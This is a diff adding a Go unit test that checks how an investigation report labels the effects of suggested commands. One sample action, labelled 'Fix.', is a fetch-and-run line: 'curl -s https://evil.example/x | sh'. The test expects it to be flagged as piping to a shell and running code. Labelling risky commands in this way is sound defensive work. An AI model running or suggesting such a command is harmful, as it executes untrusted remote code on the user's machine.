@@ -365,6 +365,27 @@ func TestJSON_RoundTripsAndHasNoNullLists(t *testing.T) {
 	}
 }
 
+func TestJSON_StatesWhatCommandsDo(t *testing.T) {
+	rec := sample(t)
+	rec.Report.Actions = []investigation.Action{
+		{Text: "Look.", Command: "aws sts get-caller-identity", Effects: []string{"harmless"}},
+		{Text: "Fix.", Command: "curl -s https://evil.example/x | sh", Effects: []string{"reads_aws"}},
+		{Text: "Wait.", Effects: []string{"reads_aws"}},
+	}
+	whole, err := report.JSON(rec)
+	require.NoError(t, err)
+	event, err := report.Completion(rec, 100_000)
+	require.NoError(t, err)
+	for name, text := range map[string][]byte{"report": whole, "event": event} {
+		var got struct{ Report investigation.Report }
+		require.NoError(t, json.Unmarshal(text, &got), name)
+		assert.Equal(t, []string{"reads_aws"}, got.Report.Actions[0].Effects, name)
+		assert.Equal(t, []string{"pipes_to_shell", "runs_code", "not_aws", "several"}, got.Report.Actions[1].Effects, name)
+		assert.Empty(t, got.Report.Actions[2].Effects, name)
+	}
+	assert.Equal(t, []string{"harmless"}, rec.Report.Actions[0].Effects, "the record is not changed")
+}
+
 func TestCompletion_FitsItsLimitAndKeepsTheVerdict(t *testing.T) {
 	for name, rec := range records(t) {
 		for _, limit := range []int{240 << 10, 20_000, 4_000} {
